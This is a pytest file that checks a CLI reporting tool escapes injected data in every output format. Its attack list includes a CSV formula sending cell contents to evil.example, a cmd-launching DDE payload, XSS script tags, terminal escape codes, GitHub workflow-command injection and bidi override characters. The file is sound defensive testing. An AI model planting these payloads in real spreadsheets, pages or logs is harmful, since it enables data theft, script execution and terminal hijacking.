"""Output injection: data and document text stay inert in every format.

One attack string at a time is planted in every vector that reaches a report — lead ids, team
names (routing rules and the CRM's assignments), template values, routing values, finding
messages (a bad timestamp echoed), segment values, lost reasons, document titles, owners,
actions, rule names — and every format is checked for its own hazard:

* text: no control character reaches the terminal (``\\x1b[2J`` must not clear the screen);
* csv (``--results``): no cell starts with = + - @ tab or CR (OWASP CSV injection);
* html: no element or attribute comes from data;
* markdown: ``|`` and backticks in data are escaped;
* junit: well-formed XML whatever the data;
* json: valid, and the data comes back exactly (JSON is data, not presentation);
* github (validate): no data starts a new workflow command (``%``, CR, LF escaped).
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
import typer
from hostile_kit import Outcome, check_contract, invoke

from slakit.cli import app
from slakit.report.safe import terminal

COMMANDS = set(typer.main.get_command(app).commands)  # type: ignore[attr-defined]

ATTACKS = {
    "ansi-clear": "\x1b[2J\x1b[H",
    "ansi-title": "\x1b]0;owned\x07",
    "c1-csi": "\x9b2J",
    "carriage-return": "\rowned",
    "csv-formula": "=HYPERLINK(\"http://evil.example/\"&A1)",
    "csv-plus": "+1+cmd|' /C calc'!A0",
    "csv-minus": "-2+3",
    "csv-at": "@SUM(1+1)",
    "csv-tab": "\t=1+1",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "html-attr": "\" onmouseover=\"alert(1)",
    "markdown-table": "a|b|c",
    "markdown-code": "`x` ```y```",
    "github-command": "x\r\n::error file=owned::owned %0A",
    "xml": "]]><!-- &amp; \x00\x0b",
    "bidi": "evil\u202egnp.exe\u2066x\u2069",
}
"""One attack per hazard; each runs through every vector and every format."""

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""Control characters that may not reach a terminal raw (newline is allowed; tab too, above),
and the bidirectional overrides that reorder a line ("Trojan Source")."""


def doc(attack: str) -> str:
    """A document whose free-text values all carry the attack."""
    a = json.dumps(attack)  # a YAML double-quoted scalar: escapes survive as the characters
    return f"""\
slakit: 1
name: inject
title: {json.dumps("title " + attack)}
owner: {json.dumps("owner " + attack)}
timezone: UTC
definitions:
  got: {{event: lead_received, require: [phone]}}
  tried: {{event: [call_attempt, sms_sent]}}
  done: {{event: outcome, where: {{outcome: [booked, lost]}}}}
routing:
  check: {{on: assigned, field: team}}
  rules:
    - {{name: {json.dumps("rule " + attack)}, when: {{channel: {a}}}, team: {a}}}
    - {{name: rest, team: {json.dumps(attack + " rest")}}}
stages: [got, tried, done]
targets:
  - id: speed
    title: {json.dumps("speed " + attack)}
    start: got
    stop: tried
    within: 15m
    objective: 99%
  - id: messaging
    kind: quality
    each: {{event: sms_sent}}
    allow: {{template: [approved]}}
    objective: 100%
escalations:
  - id: stalled
    when: {{since: got, without: tried, over: 1h}}
    action: {json.dumps("action " + attack)}
raci:
  speed: {{responsible: {a}, accountable: {json.dumps("acc " + attack)}}}
  messaging: {{accountable: x}}
outcomes: {{field: outcome, values: {{booked: won, lost: lost}}, reason: reason_code}}
report: {{by: [channel]}}
"""


def lead_ids(attack: str) -> list[str]:
    """The lead ids that carry the attack, trimmed as cells are (LANGUAGE.md "Values").

    A lead id holding a line break is refused (``broken-row``: an unbalanced quote can
    carry other rows into it), so those leads carry the attack with its line breaks removed;
    the export's last row plants the raw attack as a lead id, to be refused.
    """
    lead = re.sub("[\r\n]", "", attack)
    return [(lead + "1").strip(), (lead + "2").strip(), ("L3" + lead).strip()]


def export(attack: str) -> str:
    """An export whose cells carry the attack in every vector a report shows."""
    rows = [["lead_id", "event", "timestamp", "channel", "team", "template", "outcome",
             "reason_code", "phone"]]
    for i, lead in enumerate(lead_ids(attack)):
        day = f"2026-03-0{i + 2}"
        rows += [
            [lead, "lead_received", f"{day}T09:00:00Z", attack, "", "", "", "", "555-0100"],
            [lead, "assigned", f"{day}T09:01:00Z", "", attack + " crm", "", "", "", ""],
            [lead, "sms_sent", f"{day}T10:00:00Z", "", "", attack, "", "", ""],
            [lead, "outcome", f"{day}T11:00:00Z", "", "", "", "lost", attack, ""],
        ]
    # Time-shaped (a date, then the attack's other characters: a word other than a month,
    # a day or AM/PM is never quoted, it may be a name), so the bad-timestamp message quotes it.
    rows.append(["L4", "lead_received", bad_time(attack), "web", "", "", "", "", "555-0101"])
    rows.append([attack, "lead_received", "2026-03-06T09:00:00Z", "", "", "", "", "", ""])
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)  # quotes fields with CR or LF
    return out.getvalue()


def bad_time(attack: str) -> str:
    """An unreadable timestamp cell carrying the attack's characters other than letters."""
    return "2026-03-09 " + re.sub(r"[^\W\d_]+", "", attack) + " 99:99"


FORMATS = ("text", "json", "markdown", "csv", "html", "junit", "github")


@pytest.fixture(params=sorted(ATTACKS), scope="module")
def outputs(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
            ) -> Iterator[tuple[str, dict[str, str]]]:
    """Every format of one evaluation with one attack planted everywhere."""
    attack = ATTACKS[request.param]
    tmp = tmp_path_factory.mktemp(request.param)
    (tmp / "inject.sla.yaml").write_text(doc(attack), encoding="utf-8")
    (tmp / "events.csv").write_text(export(attack), encoding="utf-8")
    argv = ["evaluate", str(tmp / "inject.sla.yaml"), str(tmp / "events.csv"), "-f", "text",
            "--results", str(tmp / "results.csv")]
    for fmt in FORMATS[1:]:
        argv += ["-o", f"{fmt}={tmp / ('out.' + fmt)}"]
    outcome = invoke(argv)
    check_contract(outcome, argv)
    assert outcome.code == 1, outcome.err  # the objectives are missed: every section is full
    found = {fmt: (tmp / f"out.{fmt}").read_bytes().decode("utf-8") for fmt in FORMATS[1:]}
    found["text"] = outcome.out
    found["results"] = (tmp / "results.csv").read_bytes().decode("utf-8")  # CR LF kept
    found["stderr"] = outcome.err
    yield attack, found


def test_the_attack_reaches_every_vector(outputs: tuple[str, dict[str, str]]) -> None:
    # JSON keeps data exactly: the attack must be there, in each place, or the test is moot.
    attack, found = outputs
    report = json.loads(found["json"])
    text = json.dumps(report, ensure_ascii=False)
    assert report["title"] == "title " + attack if "title" in report else True
    strings = set(_strings(report))
    # Cells are trimmed (LANGUAGE.md "Values"): a leading tab or CR is not part of the id.
    for planted in (lead_ids(attack)[0], (attack + " crm").strip(), "speed " + attack,
                    "acc " + attack):
        assert any(planted in s for s in strings), (planted, text[:3000])
    if re.search("[\r\n]", attack.strip()):
        broken = [f for f in report["findings"] if f["code"] == "broken-row"]
        assert broken and attack.strip() not in json.dumps(broken, ensure_ascii=False)
    bad_time = [f for f in report["findings"] if f["code"] == "bad-timestamp"]
    message = bad_time[0]["examples"][0]["message"]
    if re.search("[\r\n@]", attack):  # a cell with a line break or an @ is never echoed
        assert "timestamp value" in message
    else:
        assert "timestamp '2026" in message or 'timestamp "2026' in message


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield str(k)
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def test_text_is_inert_on_a_terminal(outputs: tuple[str, dict[str, str]]) -> None:
    _, found = outputs
    for name in ("text", "stderr"):
        bad = CONTROL.findall(found[name])
        assert not bad, f"{name}: raw control characters {bad!r}"
        assert "\t" not in found[name]


def test_csv_results_defuse_formulas(outputs: tuple[str, dict[str, str]]) -> None:
    attack, found = outputs
    rows = list(csv.reader(io.StringIO(found["results"])))
    assert rows[0][0] == "lead_id"
    cells = [c for row in rows[1:] for c in row]
    shown = terminal(attack.lstrip("\t\r=+-@"))  # control characters as escapes
    assert any(shown in c for c in cells), "the attack is in the results"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_format_on_stdout_defuses_formulas(outputs: tuple[str, dict[str, str]]) -> None:
    _, found = outputs
    assert found["csv"] == found["results"]
    # -f csv prints to the terminal too: a cell is inert there, one record per line.
    assert not CONTROL.search(found["csv"].replace("\n", ""))


def test_evaluate_github_lines_are_commands_or_plain(
        outputs: tuple[str, dict[str, str]]) -> None:
    _, found = outputs
    _check_github(found["github"])


def _check_github(out: str) -> None:
    """Every line is one workflow command with escaped properties, or a plain line that no
    data can turn into a command."""
    # No line break but the newline that ends each line (GitHub splits on CR too).
    assert out.split("\n")[:-1] == out.splitlines()
    for line in out.splitlines():
        if line.startswith("::"):
            command = line[2:].partition("::")[0]
            assert re.fullmatch(r"(error|warning|notice)( [a-z]+=[^,:]*(,[a-z]+=[^,:]*)*)?",
                                command), line
    assert not CONTROL.search(out), "control characters in the annotations"


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [k for k, _ in attrs if k.startswith("on")]


def test_html_escapes_everything(outputs: tuple[str, dict[str, str]]) -> None:
    attack, found = outputs
    page = found["html"]
    parser = _Elements()
    parser.feed(page)
    assert "script" not in parser.tags
    assert "img" not in parser.tags
    assert parser.handlers == []
    if "<script" in attack:
        assert "&lt;script&gt;" in page
    assert not CONTROL.search(page.replace("\t", "")), "control characters in the page"


def test_markdown_escapes_pipes_and_backticks(outputs: tuple[str, dict[str, str]]) -> None:
    attack, found = outputs
    md = found["markdown"]
    if "|" in attack or "`" in attack:
        assert attack not in md
    if "`" in attack:
        assert "\\`x\\`" in md
    if "<script" in attack:
        assert "<script>" not in md
    header_cells = None
    for line in md.splitlines():  # every row of a table has as many cells as its header
        if not line.startswith("|"):
            header_cells = None
            continue
        cells = len(re.findall(r"(?<!\\)\|", line))
        header_cells = header_cells or cells
        assert cells == header_cells, line
    assert not CONTROL.search(md)


def test_junit_is_well_formed(outputs: tuple[str, dict[str, str]]) -> None:
    _, found = outputs
    root = ET.fromstring(found["junit"].encode("utf-8"))
    assert root.tag in ("testsuites", "testsuite")
    # Tab, LF and CR are XML text (a parser reads CR as LF); other controls would be invalid.
    assert not CONTROL.search(re.sub("[\t\r]", "", found["junit"]))


def test_json_is_valid_and_faithful(outputs: tuple[str, dict[str, str]]) -> None:
    attack, found = outputs
    report = json.loads(found["json"])
    assert not CONTROL.search(found["json"]), "JSON escapes control characters"
    leads = {m["lead_id"] for m in report["routing"]["misrouted"]}
    assert leads <= set(lead_ids(attack))
    assert leads


# -- validate ------------------------------------------------------------------------------


def validate_outputs(tmp: Path, attack: str) -> dict[str, Outcome]:
    """validate's formats on a document whose problems quote the attack (a key, a value)."""
    text = (f"slakit: 1\nname: v\ntitle: {json.dumps(attack)}\ntargets:\n"
            f"  - {{id: t, start: a, stop: b, within: {json.dumps(attack)}, "
            f"{json.dumps('withn' + attack)}: 1}}\n")
    folder = tmp / "docs"
    folder.mkdir(exist_ok=True)
    path = folder / "v,name:x.sla.yaml"
    path.write_text(text, encoding="utf-8")
    out = {}
    for fmt in ("text", "json", "github", *(["junit"] if "junit" in _validate_formats() else [])):
        argv = ["validate", str(path), "-f", fmt]
        outcome = invoke(argv)
        check_contract(outcome, argv)
        assert outcome.code == 1
        out[fmt] = outcome
    return out


def _validate_formats() -> tuple[str, ...]:
    from slakit.cli.reporters import REPORTERS

    return tuple(REPORTERS)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_validate_formats_are_inert(tmp_path: Path, name: str) -> None:
    attack = ATTACKS[name]
    out = validate_outputs(tmp_path, attack)
    assert not CONTROL.search(out["text"].text), "validate text drives the terminal"
    data = json.loads(out["json"].out)
    messages = [p["message"] for f in data["files"] for p in f["problems"]]
    assert any("withn" in m for m in messages), messages  # the key is quoted (repr-escaped)
    _check_github(out["github"].out)
    if "junit" in out:
        ET.fromstring(out["junit"].out.encode("utf-8"))


@pytest.mark.parametrize("name", ["github-command", "ansi-clear"])
def test_github_annotations_escape_file_names(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "d"
    folder.mkdir()
    bad = folder / ("x,line=1::y" + ATTACKS[name].replace("/", "") + ".sla.yaml")
    bad.write_text("slakit: 1\nname: v\ntargets: [{id: t}]\n", encoding="utf-8")
    outcome = invoke(["validate", str(folder), "-f", "github"])
    first = outcome.out.splitlines()[0]
    assert first.startswith("::error file=")
    assert "%2C" in first and "%3A%3A" in first
    assert not CONTROL.search(outcome.out)
    text = invoke(["validate", str(folder)])
    assert not CONTROL.search(text.text)


# -- diff and explain ------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_diff_formats_are_inert(tmp_path: Path, name: str) -> None:
    attack = ATTACKS[name]
    (tmp_path / "base.sla.yaml").write_text(doc("base"), encoding="utf-8")
    (tmp_path / "head.sla.yaml").write_text(doc(attack), encoding="utf-8")
    outs = {}
    for fmt in ("text", "json", "markdown"):
        argv = ["diff", str(tmp_path / "base.sla.yaml"), str(tmp_path / "head.sla.yaml"),
                "-f", fmt]
        outcome = invoke(argv)
        check_contract(outcome, argv)
        outs[fmt] = outcome
    assert not CONTROL.search(outs["text"].text)
    assert not CONTROL.search(outs["markdown"].out)
    if "|" in attack:
        assert "a|b" not in outs["markdown"].out
    json.loads(outs["json"].out)
    assert not CONTROL.search(outs["json"].out)


def _explain_formats() -> tuple[str, ...]:
    from slakit.cli import explain  # type: ignore[attr-defined]

    return tuple(getattr(explain, "FORMAT_NAMES", ("text", "json", "markdown")))


@pytest.mark.skipif("explain" not in COMMANDS, reason="explain has not landed yet")
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_explain_formats_are_inert(tmp_path: Path, name: str) -> None:
    attack = ATTACKS[name]
    (tmp_path / "inject.sla.yaml").write_text(doc(attack), encoding="utf-8")
    (tmp_path / "events.csv").write_text(export(attack), encoding="utf-8")
    checks: dict[str, Callable[[str], object]] = {
        "json": json.loads, "text": lambda s: None, "markdown": lambda s: None,
        "html": lambda s: None,
    }
    for fmt in _explain_formats():
        argv = ["explain", str(tmp_path / "inject.sla.yaml"), str(tmp_path / "events.csv"),
                "--lead", lead_ids(attack)[0], "-f", fmt]
        outcome = invoke(argv)
        check_contract(outcome, argv)
        assert outcome.code == 0, outcome.err
        assert not CONTROL.search(outcome.text), (fmt, outcome.text[:500])
        checks.get(fmt, lambda s: None)(outcome.out)
        if fmt == "markdown" and "|" in attack:
            assert "a|b" not in outcome.out
        if fmt == "html":
            parser = _Elements()
            parser.feed(outcome.out)
            assert "script" not in parser.tags and parser.handlers == []


@pytest.mark.skipif("explain" not in COMMANDS, reason="explain has not landed yet")
def test_explain_unknown_lead_error_is_inert(tmp_path: Path) -> None:
    # The did-you-mean list quotes lead ids from the data on standard error.
    attack = ATTACKS["ansi-clear"]
    (tmp_path / "inject.sla.yaml").write_text(doc(attack), encoding="utf-8")
    (tmp_path / "events.csv").write_text(export(attack), encoding="utf-8")
    argv = ["explain", str(tmp_path / "inject.sla.yaml"), str(tmp_path / "events.csv"),
            "--lead", "L3" + attack[:-1]]
    outcome = invoke(argv)
    check_contract(outcome, argv)
    assert outcome.code == 2
    assert "L3\\x1b[2J" in outcome.err
    assert not CONTROL.search(outcome.err)


def test_invalid_document_errors_are_inert(tmp_path: Path) -> None:
    # evaluate prints an invalid document's problems on standard error (exit 1).
    (tmp_path / "bad\x1b[2J.sla.yaml").write_text(
        'slakit: 1\nname: x\ntargets: [{id: t, "\\e[2J": 1}]\n', encoding="utf-8")
    (tmp_path / "e.csv").write_text("lead_id,event,timestamp\nL1,a,2026-03-02\n")
    argv = ["evaluate", str(tmp_path / "bad\x1b[2J.sla.yaml"), str(tmp_path / "e.csv")]
    outcome = invoke(argv)
    check_contract(outcome, argv)
    assert outcome.code == 1
    assert "bad\\x1b[2J.sla.yaml" in outcome.err
    assert not CONTROL.search(outcome.err)


def test_missing_file_error_is_inert(tmp_path: Path) -> None:
    (tmp_path / "m.sla.yaml").write_text(doc("x"), encoding="utf-8")
    argv = ["evaluate", str(tmp_path / "m.sla.yaml"), str(tmp_path / "gone\x9b2J.csv")]
    outcome = invoke(argv)
    assert outcome.code == 2
    assert "gone\\x9b2J.csv" in outcome.err
    assert not CONTROL.search(outcome.err)
